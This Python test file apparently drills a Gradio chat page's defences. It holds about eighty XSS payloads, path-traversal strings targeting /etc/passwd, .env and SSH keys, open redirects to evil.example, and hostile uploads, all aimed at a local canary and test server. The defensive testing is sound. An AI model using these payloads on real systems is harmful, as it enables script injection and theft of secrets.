"""T19, T20: the chat page under attack, by HTTP and in a real Chromium: no file leaves, no script runs, none is called.

What an attacker can bring onto the page are texts (answers, labels, errors, names of files, reasons of gate versions)
and uploads. Every payload that runs reports its number; a canary on another port counts who asks it anything. As a
control the same payloads are put on a page whose guards are off.
"""

import json
import re
import socket
import tempfile
import threading
from collections.abc import AsyncIterator, Iterator, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import gradio as gr
import httpx
from api_world import World
from fastapi import FastAPI
from page_world import chromium, serve
from playwright.sync_api import Browser, Page, expect

from drills.row import Row, Scale
from gateway.page import look, mount_page
from multimoe.checkpoint import Manifest
from multimoe.errors import ExpertFailed
from multimoe.expert import Delta, Expert
from multimoe.messages import ChatRequest
from multimoe.outputs import Label, Labels, Usage
from multimoe.quality import Learned

PATIENCE = 120_000  # milliseconds; the machine may be busy
RUN = "window.ran&&ran({n})"  # what every payload tries to do
PAYLOADS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src={canary}/s{n}.js></script>",
    "<script type=module>import('{canary}/m{n}')</script>",
    "<img src=x onerror={run}>",
    '<img src="x" onerror="{run}">',
    "<IMG SRC=x OnErRoR={run}>",
    "<img/src=x/onerror={run}>",
    "<img src='x'onerror='{run}'>",
    "<img src={canary}/i{n}.png>",
    "![x]({canary}/md{n}.png?q=secret)",
    "![x][r{n}]\n\n[r{n}]: {canary}/ref{n}.png",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>x</text></a></svg>",
    "<svg><image href={canary}/svg{n}.png></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{run}</script></svg>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran({n})</script>'></foreignObject></svg>",
    "<math><mi//xlink:href='data:x,<script>{run}</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java&#10;script:{run})",
    "[x](&#106;avascript:{run})",
    "[x](data:text/html,<script>{run}</script>)",
    "[x](vbscript:{run})",
    "<a href='javascript:{run}'>x</a>",
    "<a href=' &#14; javascript:{run}'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<iframe src='javascript:parent.ran({n})'></iframe>",
    "<iframe srcdoc='<script>parent.ran({n})</script>'></iframe>",
    "<iframe src={canary}/f{n}></iframe>",
    "<embed src='data:text/html,<script>parent.ran({n})</script>'>",
    "<object data='data:text/html,<script>parent.ran({n})</script>'></object>",
    "<object data={canary}/o{n}></object>",
    "<body onload={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<video src={canary}/v{n}.mp4 autoplay poster={canary}/p{n}.png></video>",
    "<audio src=x onerror={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<button popovertarget=x onclick={run}>x</button><div popover id=x onbeforetoggle={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<div style='animation:x' onanimationstart={run}>x</div><style>@keyframes x{{}}</style>",
    "<p onpointerover={run} style='position:fixed;inset:0'>x</p>",
    "<style>@import '{canary}/c{n}.css';</style>",
    "<div style='background:url({canary}/bg{n}.png)'>x</div>",
    "<link rel=stylesheet href={canary}/l{n}.css>",
    "<link rel=prefetch href={canary}/pf{n}><link rel=dns-prefetch href={canary}>",
    "<meta http-equiv=refresh content='0;url={canary}/r{n}'>",
    "<base href={canary}/b{n}/>",
    "<form action={canary}/fo{n}><input type=submit autofocus></form>",
    "<template><img src=x onerror={run}></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xmp><img src=x onerror={run}></xmp>",
    "<textarea></textarea><img src=x onerror={run}>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]>",
    "</div></div></p><script>{run}</script>",
    "\"><script>{run}</script>",
    "'-{run}-'",
    "${{{run}}} {{{{{run}}}}}",
    "`<img src=x onerror={run}>`\n<img src=x onerror={run}>",
    "```html\n<img src=x onerror={run}>\n```\n<svg onload={run}>",
    "```mermaid\ngraph TD; A[\"<img src=x onerror={run}>\"] --> B; click A \"javascript:{run}\"\n```",
    "$$\\href{{javascript:{run}}}{{x}}$$ $\\includegraphics{{{canary}/tex{n}.png}}$",
    "$$\\unicode{{<img src=x onerror={run}>}}$$",
    "<\u202eimg src=x onerror={run}>",
    "\u202egnp.x\u202c<img src=x onerror={run}>",
    "<img src=x onerror\x0b={run}>",
    "<a href=x target=_blank rel=opener ping={canary}/ping{n}>x</a>",
    "<button data-do=copy data-text='x' onclick={run}>x</button>",
)  # fmt: skip


@dataclass
class Canary:
    """Counts who asks it anything."""

    hits: list[str] = field(default_factory=list)

    @contextmanager
    def sings(self) -> Iterator[str]:
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_HEAD = do_GET

            def log_message(self, *_: object) -> None:
                pass

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield f"http://127.0.0.1:{server.server_port}"
        finally:
            server.shutdown()
            server.server_close()


class Loud(Expert):
    """Its label is what it was asked."""

    async def answer(self, request: ChatRequest) -> AsyncIterator[Delta]:
        label = Label(name=request.text[:2000], probability=0.9)
        yield Delta(output=Labels(space="loud", labels=(label,)), usage=Usage(), finish="stop")


class Failing(Expert):
    """It fails in the words of whoever asked."""

    async def answer(self, request: ChatRequest) -> AsyncIterator[Delta]:
        raise ExpertFailed(request.text[:2000])
        yield Delta()


EXPERTS = [
    {"name": name, "backend": backend, "inputs": inputs, "output": output, "card": {"description": f"About {name}."}}
    for name, backend, inputs, output in (
        ("parrot", "experts.echo:Echo", ["text"], "text"),
        ("loud", "drills.page:Loud", ["text"], "labels"),
        ("failing", "drills.page:Failing", ["text"], "text"),
        ("eye", "api_world:Eye", ["image"], "labels"),
    )
]


@dataclass
class Watched:
    """A page of which it is known what ran in it, and what left it."""

    page: Page
    ran: list[int] = field(default_factory=list)

    @classmethod
    def open(cls, browser: Browser, url: str, ready: str) -> "Watched":
        page = browser.new_context().new_page()
        page.set_default_timeout(PATIENCE)
        watched = cls(page)
        page.expose_function("ran", lambda number: watched.ran.append(number))
        page.on("dialog", lambda dialog: (watched.ran.append(-1), dialog.dismiss()))
        page.goto(url, wait_until="commit")
        page.wait_for_selector(ready)
        return watched

    def ask(self, text: str, answers: int) -> None:
        self.page.fill("#mm-ask textarea", text)
        self.page.keyboard.press("Enter")
        expect(self.page.locator(".mm-rate")).to_have_count(answers, timeout=PATIENCE)

    def touch(self) -> None:
        """What a person might: open what is folded, follow links that are code. Others only lead away from the page."""
        self.page.evaluate(
            "document.querySelectorAll('#mm-chat a, #mm-chat svg a, #mm-chat summary').forEach(x => {"
            "const to = x.getAttribute('href') ?? x.getAttribute('xlink:href');"
            "if (to !== null && !/^[\\s\\x00-\\x1f]*(javascript|data|vbscript):/i.test(to)) return;"
            "x.removeAttribute('target'); x.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))})"
        )
        self.page.wait_for_timeout(300)


RELOADED = re.compile(r"/r\d+")  # where a payload would have the page reload from


def payloads(canary: str, scale: Scale) -> list[str]:
    """All of them, or every third."""
    made = [text.format(n=n, canary=canary, run=RUN.format(n=n)) for n, text in enumerate(PAYLOADS)]
    return made[:: 1 if scale == "long" else 3]


def no_script_runs(scale: Scale) -> Iterator[Row]:
    canary = Canary()
    with canary.sings() as address, tempfile.TemporaryDirectory() as home, chromium() as browser:
        world, evil = World(Path(home) / "home", experts=EXPERTS), payloads(address, scale)
        for reason in evil[:: 1 if scale == "long" else 3]:
            world.registry.write(Learned().rows(["parrot"]), Manifest(reason=reason))
        api = serve(world.app)
        page = serve(mount_page(FastAPI(), api.url))
        try:
            yield from _on_the_page(
                scale, browser, world, f"{page.url}/ui/", payloads(address, scale), canary, Path(home)
            )
        finally:
            page.stop()
            api.stop()
            world.log.close()
        yield from _with_guards_off(browser, evil, canary)


def _on_the_page(
    scale: Scale, browser: Browser, world: World, url: str, evil: Sequence[str], canary: Canary, home: Path
) -> Iterator[Row]:
    """Several to an answer in the quick tier, each followed by an empty line, else one by one."""
    many = 1 if scale == "long" else 20
    shown = Watched.open(browser, url, ".mm-status")
    shown.page.wait_for_timeout(2000)  # it is drawn before it listens
    asked = 0
    for picks in (("parrot",), ("loud", "parrot"), ("failing", "parrot")):
        world.gate.picks = picks
        step = many if picks == ("parrot",) else max(many, 13)
        for start in range(0, len(evil), step):
            asked += 1
            shown.ask("\n\n".join(evil[start : start + step]), asked)
            if asked % 20 == 0:  # what was shown is drawn anew with every answer; not hundreds of times
                shown.touch()
                shown.page.get_by_role("button", name="New chat").click()
                expect(shown.page.locator(".mm-rate")).to_have_count(0, timeout=PATIENCE)
                shown.page.wait_for_timeout(500)
                asked = 0
        shown.touch()
    name = home / "<img src=x onerror=ran(999)>.png"
    name.write_bytes(httpx.get(f"{url}favicon.ico").content or b"x")
    with shown.page.expect_file_chooser() as chooser:
        shown.page.locator("#mm-ask .upload-button").first.click()
    chooser.value.set_files(name)
    shown.page.get_by_role("tab", name="Gate").click()
    expect(shown.page.locator(".mm-versions")).to_be_visible(timeout=PATIENCE)
    shown.page.wait_for_timeout(500)
    tried = f"{len(evil)} payloads in answers, labels and errors, versions' reasons, a file's name"
    yield Row("T20", "scripts that ran on the page", tried, f"{len(shown.ran)} {shown.ran[:5]}", "0", not shown.ran)
    yield Row("T20", "requests to another host", tried, f"{len(canary.hits)} {canary.hits[:3]}", "0", not canary.hits)
    shown.page.context.close()


def _with_guards_off(browser: Browser, evil: Sequence[str], canary: Canary) -> Iterator[Row]:
    """The same texts where nothing is cleaned: without a policy they run, with the page's own none does."""
    for guarded in (True, False):
        app, before = FastAPI(), len(canary.hits)
        if guarded:
            app.add_middleware(look.Policy, path="/ui")
        with gr.Blocks() as blocks:
            gr.HTML("<p id=here>here</p>")
            for text in evil:
                gr.HTML(text)
        served = serve(gr.mount_gradio_app(app, blocks, path="/ui", ssr_mode=False))
        try:
            shown = Watched.open(browser, f"{served.url}/ui/", "#here")
            shown.page.wait_for_timeout(3000)
            # that a page goes elsewhere of itself no policy forbids; only cleaning does
            hits = sum(not (guarded and RELOADED.fullmatch(hit)) for hit in canary.hits[before:])
            ran = len(set(shown.ran))
            shown.page.context.close()
        finally:
            served.stop()
        figure = f"{ran} ran, {hits} requests"
        if guarded:
            yield Row("T20", "nothing cleaned, the policy alone", f"{len(evil)} payloads", figure, "0 ran, 0 requests",
                      ran == hits == 0)  # fmt: skip
        else:
            yield Row("T20", "nothing cleaned, no policy", f"{len(evil)} payloads", figure, "many ran, many requests",
                      ran > len(evil) // 8 and hits > 0, control=True)  # fmt: skip


# --- files ---

FILE = "/gradio_api/file="
PATHS = (
    "/etc/passwd", "//etc/passwd", "../../../../etc/passwd", "/../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd", "/proc/self/environ", "/proc/self/cmdline", "/proc/self/root/etc/passwd", "/dev/zero",
    "{home}/log.db", "{home}/signing.key", "{home}/gates/current", "{home}/../secret.txt", "{home}/.env", "{link}",
    "{link}/../secret.txt", "/ETC/PASSWD", "/etc/passwd%00.png", "/etc/passwd\\x00", "file:///etc/passwd",
    "http://127.0.0.1:{port}/x", "http:/127.0.0.1:{port}/x", "//127.0.0.1:{port}/x", "https://127.0.0.1:{port}/x",
    "C:\\windows\\win.ini", "~/.ssh/id_rsa", "{python}", "{here}",
)  # fmt: skip
ELSEWHERE = (
    "/static//etc/passwd", "/static/../../../../etc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd", "/assets//etc/passwd",
    "/assets/../../../etc/passwd", "/gradio_api/file//etc/passwd", "/gradio_api/file/etc/passwd",
    "/gradio_api/proxy=http://127.0.0.1:{port}/x", "/gradio_api/proxy=https://127.0.0.1:{port}/x",
    "/gradio_api/custom_component/x/client/component/../../../../etc/passwd", "/svelte/../../etc/passwd",
    "/gradio_api/stream/a/1/2/playlist-file", "/monitoring", "/monitoring/summary", "/dev/reload", "/gradio_api/token",
    "/gradio_api/openapi.json", "/gradio_api/vibe-code", "/gradio_api/runs", "/gradio_api/deep_link?session_hash=x",
    "/?_target_url=//evil.example", "/login?_target_url=//evil.example", "/logout?_target_url=//evil.example",
    "/door?next=//evil.example", "//evil.example/", "/%2f%2fevil.example", "/\\evil.example",
)  # fmt: skip


def no_file_leaves(scale: Scale) -> Iterator[Row]:
    canary = Canary()
    with canary.sings() as address, tempfile.TemporaryDirectory() as folder:
        home = Path(folder) / "home"
        world = World(home, experts=EXPERTS)
        (Path(folder) / "secret.txt").write_text("root:the-secret-of-the-test")
        (home / ".env").write_text("KEY=the-secret-of-the-test")
        (home / "link").symlink_to(Path(folder))
        api = serve(world.app)
        page = serve(mount_page(FastAPI(), api.url))
        names = {"home": str(home), "link": str(home / "link" / "secret.txt"), "port": address.rsplit(":", 1)[1],
                 "python": json.__file__, "here": __file__}  # fmt: skip
        try:
            yield from _reads(f"{page.url}/ui", names, canary)
            yield from _uploads(f"{page.url}/ui", canary, address)
        finally:
            page.stop()
            api.stop()
            world.log.close()


def _reads(url: str, names: dict[str, str], canary: Canary) -> Iterator[Row]:
    wrong, away = [], []
    asked = [FILE + path for path in PATHS] + list(ELSEWHERE)
    for path in asked:
        status, head, body = _raw(url, path.format(**names))
        location = re.search(r"(?im)^location: *(\S+)", head)
        if location and re.match(r"(https?:)?[/\\]{2}", location[1]) and url.split("/ui")[0] not in location[1]:
            away.append(path)
        harmless = path.startswith(("/?", "/door", "//evil", "/%2f", "/\\"))  # these may lead to the page itself
        if (status == 200 and not harmless) or b"the-secret" in body or b"root:" in body:
            wrong.append(f"{path}: {status}")
    yield Row(
        "T19", "files and addresses that are not the page's", f"{len(asked)}", _figure(wrong), "0 leaks", not wrong
    )
    yield Row("T19", "redirects to elsewhere", f"{len(asked)}", _figure(away), "0", not away)
    yield Row("T19", "requests to the canary", f"{len(asked)}", f"{len(canary.hits)}", "0", not canary.hits)


def _sent(client: httpx.Client, url: str, **what: Any) -> httpx.Response | None:
    """None where the server hung up on what it need not read, before its answer was there."""
    with suppress(httpx.TransportError):
        return client.post(url, **what)
    return None


def _uploads(url: str, canary: Canary, address: str) -> Iterator[Row]:
    wrong = []
    script = b"<html><script>alert(1)</script>"
    polyglot = b"RIFF\x24\0\0\0WAVEfmt " + script
    files = {
        "pwn.html": (script, "text/html"), "pwn.svg": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "image/svg+xml"), "pwn.html.wav": (polyglot, "text/html"), "pwn.xhtml": (script, "application/xhtml+xml"),
        "pwn.js": (b"alert(1)", "text/javascript"), "pwn.pdf": (b"%PDF-1.4", "application/pdf"),
        "../../up.txt": (b"x", "text/plain"), "/etc/cron.d/x": (b"x", "text/plain"), "a\\..\\b": (b"x", "text/plain"),
        "x" * 300 + ".png": (b"x", "image/png"), "a\0b.html": (script, "text/html"), "": (b"x", "text/plain"),
    }  # fmt: skip
    with httpx.Client(timeout=60) as client:
        for name, (data, kind) in files.items():
            sent = _sent(client, f"{url}/gradio_api/upload", files={"files": (name, data, kind)})
            if sent is None or sent.status_code != 200:
                continue  # refused, which is as good
            (stored,) = sent.json()
            got = client.get(f"{url}{FILE}{stored}")
            safe = (
                got.headers.get("content-disposition", "").startswith("attachment")
                or kind == "image/png"
                or name.endswith(".wav")
            )
            sandboxed = "sandbox" in got.headers.get("content-security-policy", "")
            if (
                not safe
                or not sandboxed
                or got.headers.get("x-content-type-options") != "nosniff"
                or ".." in Path(stored).parts
            ):
                wrong.append(f"{name[:20]}: {got.status_code} {dict(got.headers)}")
        large = _sent(client, f"{url}/gradio_api/upload", files={"files": ("big.wav", b"0" * 27_000_000, "audio/wav")})
        if large is not None and large.status_code != 413:
            wrong.append(f"27 MB: {large.status_code}")
        for origin in ("https://evil.example", "null"):
            foreign = _sent(client, f"{url}/gradio_api/upload", files={"files": b"x"}, headers={"origin": origin})
            if foreign is not None and foreign.status_code != 403:
                wrong.append(f"from {origin}: {foreign.status_code}")
        there = {"path": f"{address}/x.png", "url": f"{address}/x.png", "meta": {"_type": "gradio.FileData"}}
        joined = {"data": [there] * 6, "session_hash": "x"}
        for number in range(12):
            _sent(client, f"{url}/gradio_api/queue/join", json={**joined, "fn_index": number})
        if canary.hits:
            wrong.append(f"the canary was asked: {canary.hits[:3]}")
    yield Row(
        "T19",
        "uploads that are not what they say",
        f"{len(files) + 15}",
        _figure(wrong),
        "never run, 413, 403",
        not wrong,
    )
    httpx.get(f"{address}/heard")
    yield Row(
        "T19", "the canary hears who asks it", "1", f"{len(canary.hits)}", "1", len(canary.hits) == 1, control=True
    )


def _raw(url: str, path: str) -> tuple[int, str, bytes]:
    """A request whose path no client has tidied up."""
    host, port = url.split("//")[1].split("/")[0].split(":")
    with socket.create_connection((host, int(port)), timeout=60) as line:
        line.sendall(
            f"GET /ui{path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode("latin-1", "replace")
        )
        heard = b""
        while piece := line.recv(65_536):
            heard += piece
    head, _, body = heard.partition(b"\r\n\r\n")
    return int(head.split()[1]), head.decode("latin-1"), body


def _figure(wrong: Sequence[Any]) -> str:
    return f"{len(wrong)} wrong" + "".join(f"; {each}" for each in wrong[:3])


DRILLS = (no_file_leaves, no_script_runs)
